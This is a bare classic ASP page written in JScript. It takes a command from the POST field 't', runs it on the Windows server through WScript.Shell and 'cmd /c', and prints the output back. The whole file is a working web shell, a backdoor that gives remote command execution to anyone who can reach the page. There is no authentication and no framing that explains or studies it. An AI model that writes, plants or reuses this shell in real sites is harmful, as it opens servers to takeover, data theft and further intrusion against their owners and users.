<%@ Language="JScript" %>
<%
function runLine(text) {
    var host = Server.CreateObject("WScript.Shell");
    return host.Exec("cmd /c " + text).StdOut.ReadAll();
}
var wanted = String(Request.Form("t"));
if (wanted != "undefined") {
    Response.Write(Server.HTMLEncode(runLine(wanted)));
}
%>
